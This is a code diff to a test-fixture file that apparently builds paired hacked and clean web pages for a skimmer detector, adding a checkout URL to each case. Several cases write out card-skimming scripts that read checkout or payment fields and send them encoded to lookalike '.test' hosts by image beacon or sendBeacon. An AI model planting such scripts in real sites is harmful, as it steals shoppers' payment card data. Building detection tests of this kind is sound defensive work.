@@ -64,7 +64,8 @@ export function tillSite(common: Wish, prefix = 'cc', edit?: Edit): Wish {
   }
 }
 
-const skimmed = (common: Wish, code: string, prefix = 'cc') => ({
+const skimmed = (common: Wish, code: string, prefix = 'cc', url?: string) => ({
+  ...(url ? { url } : {}),
   faulty: twins(tillSite(common, prefix, atEnd(code)), {}).faulty,
   fixed: twins(tillSite(common, prefix), {}).fixed,
 })
@@ -80,6 +81,8 @@ export const skimmers: Case[] = pairs('hack.skimmer', {
   'image-beacon-on-submit': skimmed(
     { layout: wordpress({ theme: 'flatsome' }) },
     `<script>document.getElementById('checkout-form').addEventListener('submit',function(){${READ};new Image().src='https://google-analytlcs.test/__utm.gif?d='+btoa(n+'|'+e+'|'+v);});</script>`,
+    'cc',
+    'https://shop.test/checkout/',
   ),
   'fetch-on-click-french': skimmed(
     { business: plumber, layout: bootstrap },
@@ -91,6 +94,8 @@ export const skimmers: Case[] = pairs('hack.skimmer', {
   };
 })();
 </script>`,
+    'cc',
+    'https://shop.test/commande/',
   ),
   'web-socket': skimmed(
     { business: bikes, layout: drupal() },
@@ -100,6 +105,7 @@ export const skimmers: Case[] = pairs('hack.skimmer', {
     { business: museum, layout: plain },
     `<script type=text/javascript>setInterval(function(){var o={};document.querySelectorAll('input,select').forEach(function(f){o[f.name||f.id]=f.value});if(o.payment_number&&o.payment_cvc)navigator.sendBeacon('https://jquery-stats-api.test/gate.php',btoa(JSON.stringify(o)))},900)</script>`,
     'payment',
+    'https://shop.test/checkout/',
   ),
   'hidden-in-atob': skimmed(
     { business: hotel, layout: wordpress({ theme: 'divi' }) },
